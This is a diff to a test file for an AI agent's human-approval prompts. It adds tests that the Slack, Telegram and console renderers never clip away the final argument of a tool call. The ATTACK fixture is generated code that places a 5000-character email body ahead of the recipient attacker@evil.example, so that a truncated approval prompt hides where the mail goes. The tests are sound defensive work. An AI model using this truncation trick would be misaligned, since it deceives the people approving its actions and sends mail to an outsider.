@@ -208,7 +208,73 @@ async def test_waiting_gives_back_the_step_slot(make_agent, llm_server, mail):
 
 def test_render_call_is_clipped_and_printable():
     text = render_call("send_email", ["a\x1b[31mred"], {"body": "x" * 5000})
-    assert "\x1b" not in text and len(text) <= 1500 and text.endswith("…")
+    assert "\x1b" not in text and len(text) <= 2000 and text.endswith('x")')
+    assert "…[3," in text and "characters hidden]…" in text
+
+
+# ------------------------------------------------------- the clipped call (issue 21, item 8): nothing hidden at the end
+# Generated code put a long body first and the recipient last: the approval text was cut before `to`,
+# and Approve sent the mail there. Every argument must be named, with the start and end of each value.
+ATTACK_BODY = "Dear team, " + "B" * 5000 + " END-OF-BODY"  # over every platform's limit: clipped everywhere
+ATTACK = subtask("notify", f'''
+def notify():
+    try:
+        result = send_email(body={ATTACK_BODY!r}, subject="Q3 numbers", to="attacker@evil.example")
+    except ToolDenied as exc:
+        return {{"sent": False, "why": str(exc)}}
+    return {{"sent": result["sent"]}}
+''')
+ATTACK_PARTS = [("body", json.dumps(ATTACK_BODY)), ("subject", '"Q3 numbers"'), ("to", '"attacker@evil.example"')]
+
+
+def shows_the_whole_shape(text: str) -> None:
+    """The recipient whole, the body's start and end, and how much of it is not shown."""
+    assert 'to="attacker@evil.example"' in text, text
+    assert 'body="Dear team, BBB' in text and 'BBB END-OF-BODY"' in text and 'subject="Q3 numbers"' in text
+    assert "characters hidden]…" in text
+
+
+def test_every_renderer_shows_the_last_argument_after_a_long_first_one():
+    from bots.console import CALL_CHARS
+    from bots.slack_render import SECTION_CHARS, approval_blocks, approval_call
+    from bots.telegram_render import MAX_TEXT, approval_text, html_to_plain
+
+    from agent_core import call_text
+
+    shows_the_whole_shape(render_call("send_email", [], {"body": ATTACK_BODY, "subject": "Q3 numbers",
+                                                          "to": "attacker@evil.example"}, limit=1000))
+    blocks = approval_blocks("r1", 1, "send_email", approval_call("send_email", ATTACK_PARTS), requester="U1",
+                             timeout_s=600)
+    shows_the_whole_shape(blocks[0]["text"]["text"])
+    telegram = html_to_plain(approval_text("send_email", ATTACK_PARTS, "", 600))
+    shows_the_whole_shape(telegram)
+    shows_the_whole_shape(call_text.fit("send_email", ATTACK_PARTS, CALL_CHARS))  # the console's
+    # Many long arguments: all named, each within the platform's limit; Slack's escaping counted.
+    many = [(f"field_{i}", json.dumps(f"<&>{i}" * 400 + f"tail{i}")) for i in range(20)] + [("to", '"x@evil.example"')]
+    section = approval_blocks("r1", 1, "send_email", approval_call("send_email", many))[0]["text"]["text"]
+    assert len(section) <= SECTION_CHARS and 'to="x@evil.example"' in section
+    assert all(f"field_{i}=" in section and f'tail{i}"' in section for i in range(20))
+    text = html_to_plain(approval_text("send_email", many, "", 600))
+    assert len(text.encode("utf-16-le")) // 2 <= MAX_TEXT and 'to="x@evil.example"' in text
+    assert all(f"field_{i}=" in text for i in range(20))
+    # More arguments than a message can name: it says so instead of cutting silently.
+    crowd = [(f"a{i}", json.dumps("v" * 50)) for i in range(400)] + [("to", '"x@evil.example"')]
+    fitted = call_text.fit("send_email", crowd, 2000)
+    assert len(fitted) <= 2000 and "more arguments not shown: see the whole call on the run page" in fitted
+
+
+def test_clip_middle_keeps_start_and_end_within_budget():
+    from agent_core import call_text
+
+    for size in (50, 200, 5000):
+        for budget in (60, 100, 333):
+            text = "".join(chr(97 + i % 26) for i in range(size))
+            clipped = call_text.clip_middle(text, budget)
+            assert len(clipped) <= max(budget, len(text) if len(text) <= budget else budget)
+            if len(text) > budget:
+                hidden = int(clipped.split("…[")[1].split(" ")[0].replace(",", ""))
+                head, tail = clipped.split("…[")[0], clipped.split("]…")[1]
+                assert text.startswith(head) and text.endswith(tail) and len(head) + len(tail) + hidden == size
 
 
 def test_confirm_is_refused_on_a_library_tool(tmp_path):
@@ -384,3 +450,36 @@ async def test_the_run_page_shows_who_decided_what(make_agent, llm_server, mail)
     page = _run_page(agent, result.run_id)
     assert "Approvals" in page and "approved by slack:T1:UALICE" in page
     assert "send_email(&#34;boss@example.com&#34;" in page or "send_email(&quot;boss@example.com&quot;" in page
+
+
+async def test_the_attack_is_shown_whole_on_the_run_page_and_fitted_in_the_event(make_agent, llm_server, mail):
+    from tests.test_direct_answers import _run_page
+
+    tools, sent = mail
+    llm_server.reply_json(plan(ATTACK))
+    llm_server.reply_json(verdict("not sent"))
+    agent = make_agent(tools_file=tools)
+    asked: list[ApprovalRequested] = []
+    _decide_when_asked(agent, False, by="alice", seen=asked)
+
+    result = await agent.run("email the team", "c-attack")
+
+    assert _sent(sent) == []
+    shows_the_whole_shape(asked[0].arguments)
+    assert list(asked[0].call) == ATTACK_PARTS
+    [row] = agent.storage.approvals(result.run_id)
+    whole = f'send_email(body={json.dumps(ATTACK_BODY)}, subject="Q3 numbers", to="attacker@evil.example")'
+    assert row["arguments"] == whole  # stored whole (the API returns it)
+    page = _run_page(agent, result.run_id)
+    assert ATTACK_BODY in page and "attacker@evil.example" in page and "characters hidden" not in page
+
+
+def test_console_shows_the_last_argument_after_a_long_first_one(tmp_path, llm_server, mail):
+    tools, sent = mail
+    llm_server.reply_json(plan(ATTACK))
+    llm_server.reply_json(verdict("done"))
+    proc = _cli(tmp_path, llm_server, tools, "email the team", stdin="n\n")
+    assert proc.returncode == 0, proc.stderr
+    [line] = [line for line in proc.stderr.splitlines() if "send_email needs your approval" in line]
+    shows_the_whole_shape(line)
+    assert _sent(sent) == []
